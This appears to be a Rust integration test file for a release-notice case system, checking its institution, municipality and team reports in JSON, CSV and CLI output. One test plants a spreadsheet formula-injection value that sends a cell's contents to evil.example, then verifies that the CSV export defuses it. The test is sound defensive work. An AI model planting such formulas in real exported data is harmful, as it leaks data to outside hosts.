//! The three reports on a known data set, as JSON, CSV and from the command line.

use crate::helpers::{TestApp, deadline_id, release_notice, spawn_app_in};
use indgang::domain::Kind;
use serde_json::{Value, json};

fn notice(id: &str, cpr: &str, municipality: &str, release: &str, cover_letter: bool) -> Value {
    let mut n = release_notice(id, cpr, municipality);
    n["release"]["expected_date"] = release.into();
    n["cover_letter"] = cover_letter.into();
    n.as_object_mut().unwrap().remove("release_meeting");
    n
}

async fn report(app: &TestApp, token: &str, path: &str) -> Value {
    let response = app.get(path, token).await;
    assert_eq!(response.status(), 200, "{path}");
    response.json().await.unwrap()
}

#[tokio::test]
async fn institutions_municipalities_and_teams_on_a_known_data_set() {
    let dir = tempfile::tempdir().unwrap();
    let app = spawn_app_in(dir.path(), &[]).await;
    let horsens = app.prison_token().await;
    let vestre = app.sender_token("kif-vestre", &[Kind::ReleaseNotice]).await;
    let aarhus = app.caseworker_token("751").await;
    let copenhagen = app.caseworker_token("101").await;
    let operator = app.operator_token().await;

    // Monday 23 November 2026. Horsens: 78, 17 and 60 days' notice; an update that is no new notice.
    let first = app
        .accept(
            Kind::ReleaseNotice,
            &horsens,
            &notice("H1", "150385-1234", "751", "2027-02-09", true),
        )
        .await;
    app.accept(
        Kind::ReleaseNotice,
        &horsens,
        &notice("H2", "010190-2345", "751", "2026-12-10", false),
    )
    .await;
    app.accept(
        Kind::ReleaseNotice,
        &horsens,
        &notice("H3", "020290-3456", "751", "2027-01-22", true),
    )
    .await;
    let mut update = notice("H4", "150385-1234", "751", "2027-02-09", true);
    update["notice_type"] = "update".into();
    update["previous_message_id"] = "H1".into();
    app.accept(Kind::ReleaseNotice, &horsens, &update).await;
    // Vestre: 8 days' notice to Copenhagen, no cover letter.
    let mut late = notice("V1", "030390-4567", "101", "2026-12-01", false);
    late["sender"] = json!({"id": "kif-vestre", "name": "Vestre Fængsel"});
    let vestre_receipt = app.accept(Kind::ReleaseNotice, &vestre, &late).await;

    let institutions = report(&app, &operator, "/v1/reports/institutions").await;
    assert_eq!(
        institutions["institutions"],
        json!([
            {"sender_id": "kif-horsens", "institution": "Anstalten ved Horsens", "notices": 3,
             "median_days_to_release": 60.0, "share_late": 0.333, "share_with_cover_letter": 0.667},
            {"sender_id": "kif-vestre", "institution": "Vestre Fængsel", "notices": 1,
             "median_days_to_release": 8.0, "share_late": 1.0, "share_with_cover_letter": 0.0},
        ])
    );
    let own = report(&app, &aarhus, "/v1/reports/institutions").await;
    assert_eq!(
        own["institutions"].as_array().unwrap().len(),
        1,
        "a caseworker sees their municipality's"
    );
    assert_eq!(
        app.get("/v1/reports/institutions?municipality=101", &aarhus)
            .await
            .status(),
        403
    );
    assert_eq!(app.get("/v1/reports/institutions", &horsens).await.status(), 403);
    assert_eq!(app.get("/v1/reports/sales", &operator).await.status(), 404);
    // At most a (leap) year at a time: a report loads every row of its period.
    let decade = app
        .get("/v1/reports/teams?from=2016-01-01&to=2026-01-01", &operator)
        .await;
    assert_eq!(decade.status(), 400);
    assert!(
        crate::helpers::problem(decade).await["detail"]
            .as_str()
            .unwrap()
            .contains("at most 366 days")
    );
    let leap_year = app.get("/v1/reports/teams?from=2024-01-01&to=2025-01-01", &operator);
    assert_eq!(leap_year.await.status(), 200);

    // Copenhagen finds housing in time; one acknowledgement in Aarhus is made in time.
    let case: Value = app
        .get(
            &format!("/v1/cases/{}", vestre_receipt["case_ref"].as_str().unwrap()),
            &copenhagen,
        )
        .await
        .json()
        .await
        .unwrap();
    let housing = deadline_id(&case, "housing");
    let resolved = app
        .client
        .post(format!("{}/v1/deadlines/{housing}/resolve", app.address))
        .bearer_auth(&copenhagen)
        .json(&json!({"outcome": "public_housing"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resolved.status(), 200);
    app.client
        .post(format!(
            "{}/v1/receipts/{}/acknowledge",
            app.address,
            first["receipt_id"].as_str().unwrap()
        ))
        .bearer_auth(&aarhus)
        .send()
        .await
        .unwrap();

    let before = report(&app, &operator, "/v1/reports/municipalities").await;
    assert_eq!(
        before["municipalities"],
        json!([{"municipality": "751", "name": "Aarhus", "due_within_30_days_without_housing": 1, "released_without_housing": 0}]),
        "Aarhus: the 10 December release has no housing yet; Copenhagen's is solved"
    );

    // Friday 11 December: the 10 December release has passed without housing.
    app.clock.set("2026-12-11T08:00:00Z".parse().unwrap());
    app.drain().await;
    let after = report(&app, &operator, "/v1/reports/municipalities").await;
    assert_eq!(
        after["municipalities"],
        json!([{"municipality": "751", "name": "Aarhus", "due_within_30_days_without_housing": 0, "released_without_housing": 1}])
    );

    // Aarhus's deadlines due in 2026: four acknowledgements (one met in time), and the benefit
    // (26 November), housing and action-plan deadlines of the 10 December release.
    let teams = report(&app, &aarhus, "/v1/reports/teams").await;
    assert_eq!(
        teams["teams"],
        json!([{"team": "intake", "met_on_time": 1, "missed": 6, "overdue": 6, "open": 0}])
    );
    let csv = app.get("/v1/reports/teams?format=csv", &aarhus).await;
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        csv.text().await.unwrap(),
        "team,met_on_time,missed,overdue,open\r\nintake,1,6,6,0\r\n"
    );
    let data_dir = app.data_dir.clone();
    app.stop().await;

    let output = std::process::Command::new(env!("CARGO_BIN_EXE_indgang"))
        .args([
            "report",
            "institutions",
            "--from",
            "2026-11-01",
            "--to",
            "2026-12-01",
            "--format",
            "csv",
        ])
        .env("INDGANG__DATA_DIR", &data_dir)
        .envs(crate::backend::storage_env(std::path::Path::new(&data_dir)))
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(
        text.starts_with("sender_id,institution,notices,median_days_to_release,share_late,share_with_cover_letter\r\n")
    );
    assert!(text.contains("kif-vestre,Vestre Fængsel,1,8,1,0\r\n"), "{text}");
    let table = std::process::Command::new(env!("CARGO_BIN_EXE_indgang"))
        .args(["report", "institutions", "--from", "2026-11-01", "--to", "2026-12-01"])
        .env("INDGANG__DATA_DIR", &data_dir)
        .envs(crate::backend::storage_env(std::path::Path::new(&data_dir)))
        .output()
        .unwrap();
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(
        table
            .lines()
            .nth(1)
            .unwrap()
            .starts_with("kif-horsens  Anstalten ved Horsens  3"),
        "{table}"
    );
    drop(dir);
}

#[tokio::test]
async fn a_csv_download_opens_in_a_spreadsheet_without_running_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let app = spawn_app_in(dir.path(), &[]).await;
    let horsens = app.prison_token().await;
    let operator = app.operator_token().await;
    let mut hostile = notice("H1", "150385-1234", "751", "2027-02-09", true);
    hostile["sender"]["name"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Åbn\")".into();
    app.accept(Kind::ReleaseNotice, &horsens, &hostile).await;

    let response = app.get("/v1/reports/institutions?format=csv", &operator).await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();

    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(
        &rows[0][1], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Åbn\")",
        "the name is text, not a formula"
    );
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '@']),
            "no cell a spreadsheet reads as a formula: {cell}"
        );
    }
}

#[tokio::test]
async fn the_municipalities_report_is_about_now_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let app = spawn_app_in(dir.path(), &[]).await;
    let horsens = app.prison_token().await;
    let operator = app.operator_token().await;
    app.accept(
        Kind::ReleaseNotice,
        &horsens,
        &notice("H1", "150385-1234", "751", "2026-12-10", false),
    )
    .await;
    app.accept(
        Kind::ReleaseNotice,
        &horsens,
        &notice("H2", "010190-2345", "751", "2027-01-22", false),
    )
    .await;

    // Tuesday 5 January 2027: the 10 December release passed without housing last year, and the
    // 22 January one is within the month ahead. A calendar year by default showed neither.
    app.clock.set("2027-01-05T08:00:00Z".parse().unwrap());
    app.drain().await;
    let now = report(&app, &operator, "/v1/reports/municipalities").await;
    assert_eq!(
        now,
        json!({
            "as_of": "2027-01-05T08:00:00Z",
            "from": "2026-12-06T08:00:00Z",
            "to": "2027-01-05T08:00:00Z",
            "municipalities": [{"municipality": "751", "name": "Aarhus",
                "due_within_30_days_without_housing": 1, "released_without_housing": 1}],
        })
    );
    // A period asked for is the period answered; the month ahead still counts from now.
    let asked = report(
        &app,
        &operator,
        "/v1/reports/municipalities?from=2027-01-01&to=2027-02-01",
    )
    .await;
    assert_eq!(asked["from"], "2026-12-31T23:00:00Z");
    assert_eq!(asked["as_of"], "2027-01-05T08:00:00Z");
    assert_eq!(asked["municipalities"][0]["released_without_housing"], 0);
    assert_eq!(asked["municipalities"][0]["due_within_30_days_without_housing"], 1);
    // The other reports keep the calendar year, and say when they were computed.
    let teams = report(&app, &operator, "/v1/reports/teams").await;
    assert_eq!(teams["from"], "2026-12-31T23:00:00Z");
    assert_eq!(teams["as_of"], "2027-01-05T08:00:00Z");

    let unknown = app.get("/v1/reports/municipalities?municipality=999", &operator).await;
    assert_eq!(unknown.status(), 400);
    assert!(
        crate::helpers::problem(unknown).await["detail"]
            .as_str()
            .unwrap()
            .starts_with("municipality: "),
    );
}
